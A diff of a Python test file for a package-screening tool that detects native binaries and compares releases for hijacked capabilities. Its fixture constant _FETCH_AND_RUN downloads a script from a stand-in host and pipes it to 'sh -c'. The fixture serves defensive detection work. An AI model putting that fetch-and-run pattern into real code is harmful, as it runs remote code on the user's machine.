@@ -4,15 +4,18 @@ from __future__ import annotations
 
 from dataclasses import replace
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from pratique.capability import Kind
 from pratique.finding import Phase
+from pratique.history.compare import compare
 from pratique.screen import screen_bytes
 from pratique.verdict import Report
-from tests.history.releases import able, sdist, wheel
-from tests.support.distributions import make_wheel_of
+from tests.history.hijacks import HIJACKS, Hijack
+from tests.history.releases import able, read, sdist, wheel
+from tests.support.distributions import Built, make_sdist, make_wheel, make_wheel_of
 
 _FETCH_AND_RUN = (
     "import requests, subprocess\nsubprocess.run(['sh', '-c', requests.get('https://x.example.invalid').text])\n"
@@ -81,13 +84,20 @@ def test_long_lines_without_language_are_opaque() -> None:
 def test_native_code_is_known_by_its_name_without_tags() -> None:
     """The same library for the next Python, or with another build's digest, is no new one."""
     elf = b"\x7fELF" + bytes(200)
-    one = screen_bytes(
-        make_wheel_of({"demo/_x.cpython-311-x86_64-linux-gnu.so": elf, "demo.libs/libz-0011aabb.so.1": elf}),
-        filename="demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
-    )
-    other = screen_bytes(
-        make_wheel_of({"demo/_x.cpython-312-x86_64-linux-gnu.so": elf, "demo.libs/libz-ccdd2233.so.1": elf}),
-        filename="demo-1.1-cp312-cp312-manylinux_2_17_x86_64.whl",
+    one, other = (
+        read(
+            Built(
+                project="demo",
+                version="1.0",
+                filename=f"demo-1.0-{tag}-{tag}-manylinux_2_17_x86_64.whl",
+                data=make_wheel_of({f"demo/_x.{library}": elf, f"demo.libs/libz-{build}.so.1": elf}),
+                metadata=b"",
+            )
+        )
+        for tag, library, build in (
+            ("cp311", "cpython-311-x86_64-linux-gnu.so", "0011aabb"),
+            ("cp312", "cpython-312-x86_64-linux-gnu.so", "ccdd2233"),
+        )
     )
     assert _seen(one, Kind.BINARY) == _seen(other, Kind.BINARY)
     assert len(_seen(one, Kind.BINARY)) == 2
@@ -130,3 +140,15 @@ def test_a_report_without_capabilities_still_reads() -> None:
     document = encode(report).replace(b',"capabilities":null', b"")
     assert b"capabilities" not in document
     assert decode(document, Report) == report
+
+
+@pytest.mark.parametrize("hijack", HIJACKS, ids=lambda hijack: hijack.name)
+def test_what_is_kept_with_a_report_is_enough_to_tell_what_is_new(hijack: Hijack) -> None:
+    """The few capabilities that the gateway keeps lead to the same chains as all of them."""
+    make = make_sdist if hijack.source else make_wheel
+    old, new = make("parley", "1.0", hijack.before), make("parley", "1.1", {**hijack.before, **hijack.after})
+    few = [able(screen_bytes(one.data, filename=one.filename)) for one in (old, new)]
+    whole = [able(read(one)) for one in (old, new)]
+    assert set(few[1].items) <= set(whole[1].items)
+    assert len(few[1].items) < len(whole[1].items)
+    assert compare(*few).chains == compare(*whole).chains
